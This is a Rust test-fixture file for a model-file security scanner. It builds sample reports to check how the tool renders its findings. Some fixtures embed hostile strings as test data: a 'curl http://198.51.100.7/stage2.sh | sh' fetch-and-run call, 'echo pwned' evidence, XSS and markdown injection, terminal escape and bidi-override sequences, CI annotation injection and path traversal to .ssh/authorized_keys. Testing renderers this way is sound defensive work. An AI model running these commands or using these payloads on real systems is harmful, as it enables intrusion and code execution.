//! Reports built by hand, for the renderers.

use modelaudit::finding::{Finding, Severity, State, Suppression, fingerprint};
use modelaudit::report::{Asset, Change, Checkout, Coverage, Diff, Report, RuleInfo, Status, Tool, Verdict};
use serde_json::{Map, Value, json};

/// Everything that must not reach a reader as it is: terminal control, reordering, invisible and line-breaking
/// characters.
pub(crate) const HIDDEN: [char; 9] =
    ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{2066}', '\u{200b}', '\u{2028}', '\u{feff}', '\u{e0041}'];

/// A name that tries everything at once.
pub(crate) const HOSTILE: &str = "m`|</details>\n\r\u{1b}[2J\u{202e}@everyone ![x](http://evil.example/x) <img src=x> #1 \
                           -->```]]> ::error::x ##[error]y\u{200b}\u{2028}\u{9b}\u{e0041}\u{feff}\u{2066}\u{7}.pt";

/// All samples by name.
pub(crate) fn all() -> Vec<(&'static str, Report)> {
    vec![
        ("empty", empty()),
        ("rich", rich()),
        ("hostile", hostile()),
        ("unread", unread()),
        ("diff", diff()),
        ("many", many(6_000)),
        ("bare", bare()),
        ("review", review()),
        ("spoilt", spoilt()),
    ]
}

/// Nothing found, nothing scanned.
pub(crate) fn empty() -> Report {
    Report {
        schema_version: 1,
        tool: Tool {
            name: "modelaudit".into(),
            version: "0.1.0".into(),
            rules_digest: "sha256:00112233445566778899aabbccddeeff".into(),
            names_digest: "sha256:ffeeddccbbaa99887766554433221100".into(),
        },
        verdict: Verdict::Pass,
        fail_on: Some(Severity::Medium),
        start_time: 0.0,
        duration: 0.0,
        files_scanned: 0,
        bytes_scanned: 0,
        files_ignored: 0,
        has_errors: false,
        scanner_names: Vec::new(),
        checkout: None,
        diff: None,
        issues: Vec::new(),
        assets: Vec::new(),
        coverage: Vec::new(),
        suppressions: Vec::new(),
        errors: Vec::new(),
        notes: Vec::new(),
        rules: Vec::new(),
    }
}

/// A bit of everything: members, suppressions, related rules, CVEs, models with and without claims.
pub(crate) fn rich() -> Report {
    let mut nested = finding("S104", Severity::Critical, "models/a.pt", &["archive/data.pkl"], "builtins.eval");
    nested.cve = vec!["CVE-2025-32434".into()];
    nested.related_rules = vec!["S201".into()];
    nested.occurrences = 3;
    let mut deep =
        finding("S201", Severity::High, "bundle.zip", &["inner.tar.gz", "inner.tar", "x/model.pkl"], "reduce");
    deep.offset = None;
    deep.length = None;
    let mut accepted = finding("S902", Severity::Medium, "model.gguf", &[], "tokenizer.chat_template");
    accepted.suppression = Some(Suppression {
        source: "config".into(),
        reason: Some("False positive: the template is ours".into()),
        owner: Some("ml-platform".into()),
        expires: Some("2027-01-31".into()),
    });
    let mut tolerated = finding("S902", Severity::Low, "model.gguf", &[], "general.url");
    tolerated.suppression = Some(Suppression { source: "baseline".into(), reason: None, owner: None, expires: None });
    Report {
        verdict: Verdict::Fail,
        start_time: 1_750_168_822.5,
        duration: 1.25,
        files_scanned: 4,
        bytes_scanned: 4_321,
        files_ignored: 7,
        scanner_names: vec!["gguf".into(), "pickle".into(), "pytorch".into()],
        checkout: Some(Checkout {
            repository: Some("https://bot:secret@example.com/team/models.git".into()),
            revision: Some("4b825dc642cb6eb9a060e54bf8d69288fbee4904".into()),
            branch: Some("main".into()),
        }),
        issues: vec![
            finding("S101", Severity::Critical, "evil.pickle", &[], "posix.system"),
            nested,
            deep,
            finding("S902", Severity::Info, "notes/extra.json", &[], "auto_map"),
            accepted,
            tolerated,
        ],
        assets: vec![
            asset("evil.pickle", "pickle", 74, json!({})),
            Asset {
                contains: vec!["pickle".into()],
                weights_only: None,
                tensor_count: 2,
                ..asset("models/a.pt", "pytorch", 2_048, json!({}))
            },
            asset("bundle.zip", "zip", 1_000, json!({})),
            Asset {
                tensor_count: 291,
                ..asset(
                    "model.gguf",
                    "gguf",
                    1_199,
                    json!({"general.license": "apache-2.0", "general.architecture": "llama", "context": 4096, "tags": ["a", "b"]}),
                )
            },
            Asset {
                sha256: None,
                ..asset(
                    "weights/model.safetensors",
                    "safetensors",
                    9,
                    json!({"license": "our own", "datasets": ["squad"]}),
                )
            },
        ],
        coverage: vec![
            covered("evil.pickle", Status::Complete, None),
            covered("models/a.pt", Status::Complete, None),
            covered("bundle.zip", Status::Complete, None),
            covered("model.gguf", Status::Complete, None),
        ],
        notes: vec!["2 suppressions match nothing any more".into()],
        rules: vec![
            rule("S101", "os-module-import", Severity::Critical, &[78, 502]),
            rule("S104", "dynamic-code", Severity::Critical, &[94, 502]),
            rule("S201", "pickle-reduce", Severity::High, &[502]),
            rule("S902", "metadata", Severity::Medium, &[]),
        ],
        ..empty()
    }
}

/// Names and texts that attack the reader of a report.
pub(crate) fn hostile() -> Report {
    let names = [
        "models/spaces and 100%.pt",
        "c:/windows:stream.pt",
        "../../etc/passwd",
        "/absolute.pt",
        "模型/ünïcode.pt",
        "rtl\u{202e}tp.exe",
        "line\nbreak\u{1b}[31m.pt",
        "[click](https://evil.example/).pt",
        "<img src=x onerror=alert(1)>.pt",
        "back\\slash.pt",
    ];
    let mut report = Report { verdict: Verdict::Fail, ..empty() };
    for name in names {
        let member = ["../../../root/.ssh/authorized_keys", name];
        let mut plain = finding("S101", Severity::Critical, name, &[], "posix.system");
        plain.message = format!("::error::[a](http://b) {} {{0}}", "long ".repeat(400));
        report.issues.push(plain);
        report.issues.push(finding("S101", Severity::High, name, &member, "posix.system"));
        report.assets.push(asset(name, "pickle", 1, json!({"k\u{202e}\n": "v\u{0}\n", "license": "MIT](x) \u{7}"})));
        report.coverage.push(covered(name, Status::Partial, Some("[x](http://y)\n\u{1b}[0m")));
    }
    let mut described = rule("S101", "os-module-import", Severity::Critical, &[78]);
    described.refs.push("javascript:alert(1)".into());
    described.atlas.push("AML.T9999/../x".into());
    described.title = "long ".repeat(500);
    described.why = "long\n".repeat(5_000);
    report.rules = vec![described];
    report.has_errors = true;
    report
}

/// Files that were not read to the end, and errors of the run.
pub(crate) fn unread() -> Report {
    Report {
        verdict: Verdict::Error,
        has_errors: true,
        files_scanned: 3,
        coverage: vec![
            covered("big.gguf", Status::Partial, Some("limit of 1 GiB reached")),
            covered("lfs.safetensors", Status::Skipped, Some("Git LFS pointer, the object is not here")),
            covered("broken.onnx", Status::Failed, Some("permission denied")),
            covered("fine.npy", Status::Complete, None),
        ],
        assets: vec![asset("big.gguf", "gguf", 2_000_000_000, json!({})), asset("fine.npy", "npy", 128, json!({}))],
        errors: vec!["no-such-folder: no such file or directory".into()],
        ..empty()
    }
}

/// A change: something new, something old, something gone.
pub(crate) fn diff() -> Report {
    let new = finding("S101", Severity::Critical, "new.pkl", &[], "posix.system");
    let mut old = finding("S201", Severity::High, "moved.pkl", &[], "reduce");
    old.state = State::Unchanged;
    let mut gone = finding("S104", Severity::Critical, "moved.pkl", &[], "builtins.eval");
    gone.state = State::Fixed;
    let change = |path: &str, change: &str, from: Option<&str>| Change {
        path: path.into(),
        change: change.into(),
        from: from.map(str::to_owned),
    };
    Report {
        verdict: Verdict::Fail,
        files_scanned: 2,
        diff: Some(Diff {
            mode: "diff".into(),
            base: Some("origin/main".into()),
            merge_base: Some("4b825dc642cb6eb9a060e54bf8d69288fbee4904".into()),
            head: None,
            full_scan_reason: None,
            changed: vec![change("new.pkl", "added", None), change("moved.pkl", "renamed", Some("was.pkl"))],
            fixed: vec![gone],
        }),
        issues: vec![new, old],
        coverage: vec![covered("new.pkl", Status::Complete, None), covered("moved.pkl", Status::Complete, None)],
        rules: vec![
            rule("S101", "os-module-import", Severity::Critical, &[78]),
            rule("S104", "dynamic-code", Severity::Critical, &[94]),
            rule("S201", "pickle-reduce", Severity::High, &[502]),
        ],
        ..empty()
    }
}

/// More findings than any host takes, the worst of them last.
pub(crate) fn many(count: usize) -> Report {
    let mut report = Report { verdict: Verdict::Fail, files_scanned: 60, ..empty() };
    for n in 0..count {
        let severity = if n + 10 >= count { Severity::Critical } else { Severity::Low };
        let member = format!("archive/{n}.pkl");
        let mut one = finding("S201", severity, &format!("models/{}.pt", n % 60), &[&member], "reduce");
        one.fingerprint = fingerprint("S201", &one.path, &one.members, "reduce");
        report.issues.push(one);
    }
    report.rules = vec![rule("S201", "pickle-reduce", Severity::High, &[502])];
    report
}

/// Findings of three files, a change under review, and every kind of coverage.
pub(crate) fn review() -> Report {
    let mut report = empty();
    report.verdict = Verdict::Fail;
    report.start_time = 1_750_168_822.5;
    report.duration = 0.0123;
    report.files_scanned = 18;
    report.bytes_scanned = 1_234_567_890;
    report.files_ignored = 3;
    report.has_errors = true;
    report.scanner_names = vec!["pickle".into(), "safetensors".into(), "zip".into()];
    report.issues = told_findings();
    report.diff = Some(reviewed());
    report.assets =
        vec![weights("models/evil.pt", "pytorch-zip", 4096), weights("weights.safetensors", "safetensors", 1234)];
    report.coverage = reviewed_files();
    report.errors = vec!["the target 'missing.pt' does not exist".into()];
    report.notes = vec!["2 files are Git LFS pointers whose objects are not in the local cache".into()];
    report.rules = vec![
        titled("S101", "os-module-import", "The os module is used", Severity::Critical),
        titled("S201", "pickle-reduce", "A callable is run while the file loads", Severity::Critical),
        titled("S902", "trailing-data", "Data behind the end of the model", Severity::Medium),
    ];
    report
}

/// A report whose every text is hostile.
pub(crate) fn spoilt() -> Report {
    let mut report = review();
    let text = || HOSTILE.to_owned();
    let spoil = |finding: &mut Finding| {
        (finding.message, finding.location, finding.path) = (text(), text(), text());
        (finding.why, finding.fix) = (text(), text());
        finding.members = vec![text(), text()];
        finding.details = Map::from_iter([("call".into(), json!(HOSTILE)), (text(), json!([HOSTILE]))]);
        if let Some(suppression) = &mut finding.suppression {
            suppression.source = text();
            (suppression.reason, suppression.owner, suppression.expires) = (Some(text()), Some(text()), Some(text()));
        }
    };
    report.issues.iter_mut().for_each(spoil);
    if let Some(diff) = &mut report.diff {
        diff.fixed.iter_mut().for_each(spoil);
        (diff.base, diff.merge_base, diff.head) = (Some(text()), Some(text()), Some(text()));
        diff.full_scan_reason = Some(text());
        for change in &mut diff.changed {
            (change.path, change.change, change.from) = (text(), text(), Some(text()));
        }
    }
    for asset in &mut report.assets {
        (asset.path, asset.format) = (text(), text());
        asset.tensors = vec![text()];
        asset.metadata = Map::from_iter([(text(), json!(HOSTILE))]);
    }
    for file in &mut report.coverage {
        file.path = text();
        file.reason = file.reason.as_ref().map(|_| text());
    }
    for rule in &mut report.rules {
        (rule.title, rule.why, rule.fix) = (text(), text(), text());
    }
    (report.errors, report.notes) = (vec![text()], vec![text()]);
    report.tool.version = text();
    report
}

/// The report of a review with `count` findings.
pub(crate) fn shards(count: usize) -> Report {
    let mut report = review();
    report.issues = (0..count)
        .map(|n| {
            let level = [Severity::Critical, Severity::High, Severity::Medium, Severity::Low][n % 4];
            let path = format!("models/shard-{:05}.bin", n / 3);
            told("S101", "os-module-import", level, &path, &["data.pkl"], &format!("call {n} of os.system"))
        })
        .collect();
    report
}

/// True if nothing in `text` could act on a terminal or hide.
pub(crate) fn is_visible(text: &str) -> bool {
    !text.contains(HIDDEN) && text.chars().all(|c| c == '\n' || !modelaudit::escape::is_hidden(c))
}

/// A report that describes none of its rules and repeats a fingerprint.
pub(crate) fn bare() -> Report {
    let one = finding("S101", Severity::Medium, "a.pkl", &[], "posix.system");
    Report { verdict: Verdict::Fail, issues: vec![one.clone(), one], ..empty() }
}

/// A finding with the parts that people read.
pub(crate) fn told(code: &str, name: &str, level: Severity, path: &str, members: &[&str], message: &str) -> Finding {
    Finding {
        rule_name: name.into(),
        message: message.into(),
        why: "The `os` module starts processes. Whoever loads the file runs them with their own rights, e.g. on a \
              build machine."
            .into(),
        fix: "Do not load this file. Ask its author for `safetensors`, or load it with `weights_only=True`.".into(),
        cwe: vec![78, 502],
        details: Map::new(),
        ..finding(code, level, path, members, message)
    }
}

pub(crate) fn finding(code: &str, severity: Severity, path: &str, members: &[&str], evidence: &str) -> Finding {
    let members: Vec<String> = members.iter().map(|name| (*name).to_owned()).collect();
    let mut details = Map::new();
    details.insert("call".into(), Value::String(format!("{evidence}('echo pwned')")));
    Finding {
        rule_code: code.into(),
        rule_name: format!("rule-{}", code.to_lowercase()),
        severity,
        severity_score: severity.score(),
        safety_level: severity.safety_level(),
        message: format!("{evidence} is called while the file loads: {evidence}('echo pwned')"),
        location: format!("{path} (pos 28)"),
        path: path.into(),
        offset: Some(28),
        length: Some(14),
        why: "Loading the file runs it.".into(),
        fix: "Do not load the file.".into(),
        cwe: vec![502],
        cve: Vec::new(),
        details,
        related_rules: Vec::new(),
        occurrences: 1,
        fingerprint: fingerprint(code, path, &members, evidence),
        members,
        state: State::New,
        suppression: None,
    }
}

pub(crate) fn rule(code: &str, name: &str, severity: Severity, cwe: &[u32]) -> RuleInfo {
    RuleInfo {
        code: code.into(),
        name: name.into(),
        title: format!("Title of {name}"),
        severity,
        why: format!("Why `{name}` matters.\n\nA second paragraph."),
        fix: "Use **safetensors**.".into(),
        cwe: cwe.to_vec(),
        atlas: vec!["AML.T0011.000".into()],
        refs: vec!["https://docs.python.org/3/library/pickle.html".into()],
        precision: "high".into(),
        prisma: vec!["Load Time Code Execution".into()],
    }
}

fn asset(path: &str, format: &str, size: u64, metadata: Value) -> Asset {
    let Value::Object(metadata) = metadata else { panic!("metadata is an object") };
    Asset {
        path: path.into(),
        format: format.into(),
        size,
        sha256: Some("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855".into()),
        tensors: Vec::new(),
        tensor_count: 0,
        metadata,
        contains: Vec::new(),
        weights_only: None,
    }
}

fn covered(path: &str, status: Status, reason: Option<&str>) -> Coverage {
    Coverage { path: path.into(), status, reason: reason.map(str::to_owned), bytes: 74 }
}

fn told_findings() -> Vec<Finding> {
    let call = "posix.system('curl http://198.51.100.7/stage2.sh | sh')";
    let message = format!("posix.system is called while the file loads: {call}");
    let mut called =
        told("S101", "os-module-import", Severity::Critical, "models/evil.pt", &["archive/data.pkl"], &message);
    called.details = object(json!({
        "module": "posix", "function": "system", "opcode": "STACK_GLOBAL", "invoked": true, "call": call, "stream": 0,
    }));
    called.related_rules = vec!["S201".into(), "S309".into()];
    called.occurrences = 3;
    let mut again = called.clone();
    again.message = "posix.popen is named".into();
    again.details = Map::new();
    (again.occurrences, again.length, again.severity) = (1, None, Severity::High);
    (again.severity_score, again.safety_level) = (Severity::High.score(), Severity::High.safety_level());
    let mut accepted =
        told("S201", "pickle-reduce", Severity::Critical, "models/old.pkl", &[], "builtins.eval is called");
    accepted.suppression = Some(Suppression {
        source: "config".into(),
        reason: Some("made by our own pipeline".into()),
        owner: Some("ml-platform".into()),
        expires: Some("2027-01-31".into()),
    });
    let mut trailing =
        told("S902", "trailing-data", Severity::Medium, "weights.safetensors", &[], "64 bytes follow the last tensor");
    trailing.state = State::Unchanged;
    trailing.cve = vec!["CVE-2024-12345".into()];
    let mut whole =
        told("S1101", "unusual-name", Severity::Info, "weights.safetensors", &[], "the name has two extensions");
    (whole.offset, whole.length) = (None, None);
    vec![called, again, accepted, trailing, whole]
}

fn reviewed() -> Diff {
    let change = |path: &str, change: &str, from: Option<&str>| Change {
        path: path.into(),
        change: change.into(),
        from: from.map(Into::into),
    };
    Diff {
        mode: "diff".into(),
        base: Some("origin/main".into()),
        merge_base: Some("1a2b3c4d5e6f1a2b3c4d5e6f1a2b3c4d5e6f1a2b".into()),
        head: Some("9f8e7d6c5b4a9f8e7d6c5b4a9f8e7d6c5b4a9f8e".into()),
        full_scan_reason: Some("the configuration changed".into()),
        changed: vec![
            change("models/evil.pt", "added", None),
            change("weights.safetensors", "renamed", Some("old/weights.safetensors")),
        ],
        fixed: vec![Finding {
            state: State::Fixed,
            ..told("S101", "os-module-import", Severity::Critical, "models/gone.pkl", &[], "os.system is called")
        }],
    }
}

fn reviewed_files() -> Vec<Coverage> {
    let file = |path: &str, status: Status, reason: Option<&str>| Coverage {
        path: path.into(),
        status,
        reason: reason.map(Into::into),
        bytes: 74,
    };
    let mut files = vec![
        file("models/evil.pt", Status::Complete, None),
        file(
            "models/broken.safetensors",
            Status::Partial,
            Some("malformed at 0x2c: a tensor ends behind the end of the file, which the header does not allow"),
        ),
        file("models/gone.bin", Status::Failed, Some("permission denied")),
    ];
    let unread = Some("no decoder for this format in this build");
    files.extend((0..12).map(|n| file(&format!("nets/{n}.onnx"), Status::Skipped, unread)));
    files.extend((0..2).map(|n| file(&format!("nets/{n}.gguf"), Status::Skipped, unread)));
    files.push(file("lfs/model.bin", Status::Skipped, Some("Git LFS pointer without its object")));
    files
}

fn weights(path: &str, format: &str, size: u64) -> Asset {
    Asset {
        sha256: Some("ab".repeat(32)),
        tensors: vec!["embedding.weight".into()],
        tensor_count: 1,
        contains: vec!["pickle".into()],
        ..asset(path, format, size, json!({ "format": "pt" }))
    }
}

fn titled(code: &str, name: &str, title: &str, severity: Severity) -> RuleInfo {
    RuleInfo {
        title: title.into(),
        why: "Why it matters.".into(),
        fix: "What to do.".into(),
        prisma: vec!["LTE".into()],
        ..rule(code, name, severity, &[502])
    }
}

#[expect(clippy::needless_pass_by_value, reason = "reads better at its calls")]
fn object(value: Value) -> Map<String, Value> {
    value.as_object().cloned().unwrap_or_default()
}
